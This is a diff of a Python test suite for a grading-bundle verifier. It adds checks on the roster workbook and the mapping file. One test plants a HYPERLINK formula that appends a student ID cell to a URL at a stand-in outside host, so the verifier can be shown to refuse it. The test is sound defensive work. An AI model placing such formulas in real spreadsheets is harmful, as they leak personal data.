@@ -114,12 +114,23 @@ class VerifyTest(GradpackTestCase):
         self.assertEqual([f["file"] for f in findings(doc, "bundle.unlisted")],
                          [f"{self.top}/notes.txt"])
 
-    def test_manifest_removed_is_warned_and_contents_checked(self):
+    def test_manifest_removed_is_an_error_when_bundle_json_is_there(self):
+        # pack always writes both: bundle.json without a manifest did not
+        # come from pack as sent (a swapped photo could not be seen)
         doc = self.verify(self.variant("nomanifest.zip",
                                        drop={f"{self.top}/MANIFEST.sha256"}),
+                          expect_status=1)
+        self.assertIn("bundle.manifest_missing", codes(doc, "error"))
+        self.assertVerdict(doc, "nomanifest.zip", "fail")
+
+    def test_hand_made_zip_without_manifest_and_bundle_json_is_warned(self):
+        doc = self.verify(self.variant("handmade.zip",
+                                       drop={f"{self.top}/MANIFEST.sha256",
+                                             f"{self.top}/bundle.json"}),
                           expect_status=0)
         self.assertIn("bundle.manifest_missing", codes(doc, "warning"))
-        self.assertVerdict(doc, "nomanifest.zip", "pass")
+        self.assertIn("bundle.metadata", codes(doc, "warning"))
+        self.assertVerdict(doc, "handmade.zip", "pass")
 
     # ---- hostile archives ---------------------------------------------------
 
@@ -251,6 +262,67 @@ class VerifyTest(GradpackTestCase):
         self.assertCodes(doc, {"bundle.part_gap"})
         doc = self.verify(parts[0], parts[0], expect_status=1)
         self.assertCodes(doc, {"bundle.part_overlap"})
+
+    # ---- what people open: roster.xlsx and mapping.csv (issue 9, item 4) ------
+
+    def workbook_variant(self, name, edit):
+        """The good bundle with roster.xlsx edited by openpyxl (a second writer)."""
+        import io
+        import openpyxl
+        target = f"{self.top}/roster.xlsx"
+
+        def change(entry, data):
+            if entry != target:
+                return data
+            wb = openpyxl.load_workbook(io.BytesIO(data))
+            edit(wb.worksheets[0])
+            out = io.BytesIO()
+            wb.save(out)
+            return out.getvalue()
+        return self.variant(name, change=change)
+
+    def test_workbook_of_other_students(self):
+        def edit(ws):
+            ws["D2"] = "冒名顶替"
+        doc = self.verify(self.workbook_variant("other.zip", edit), expect_status=1)
+        hits = findings(doc, "bundle.workbook.mismatch")
+        self.assertEqual(len(hits), 1, doc["findings"])
+        self.assertEqual((hits[0]["row"], hits[0]["actual"]), (2, "冒名顶替"))
+        self.assertIn("D2", hits[0]["message"])
+
+    def test_workbook_formula_refused(self):
+        def edit(ws):
+            ws["J2"] = '=HYPERLINK("http://example.invalid/?id="&F2,"详情")'
+        doc = self.verify(self.workbook_variant("formula.zip", edit), expect_status=1)
+        hits = findings(doc, "bundle.workbook.formula")
+        self.assertEqual(len(hits), 1, doc["findings"])
+        self.assertIn("J2", hits[0]["message"])
+
+    def test_workbook_number_cell_is_a_mismatch(self):
+        def edit(ws):
+            ws["C2"] = int(ws["C2"].value)  # the same digits, stored as a number
+        doc = self.verify(self.workbook_variant("number.zip", edit), expect_status=1)
+        hits = findings(doc, "bundle.workbook.mismatch")
+        self.assertEqual([h["row"] for h in hits], [2], doc["findings"])
+
+    def test_workbook_junk_is_unreadable(self):
+        doc = self.verify(self.variant("junk.zip", change=lambda n, d: b"PK\x03\x04junk"
+                                       if n.endswith("roster.xlsx") else d),
+                          expect_status=1)
+        self.assertIn("bundle.workbook.unreadable", codes(doc, "error"))
+
+    def test_workbook_missing_is_an_error_with_bundle_json(self):
+        doc = self.verify(self.variant("noxlsx.zip", drop={f"{self.top}/roster.xlsx"}),
+                          expect_status=1)
+        self.assertIn("bundle.workbook_missing", codes(doc, "error"))
+
+    def test_mapping_only_in_merged_bundles(self):
+        doc = self.verify(self.variant("mapping.zip",
+                                       add=[(f"{self.top}/mapping.csv", b"a,b\r\n")]),
+                          expect_status=1)
+        self.assertIn("bundle.mapping_unexpected", codes(doc, "error"))
+        self.assertNotIn("bundle.mapping_unexpected", codes(self.verify(self.good,
+                                                                        expect_status=0)))
 
 
 if __name__ == "__main__":
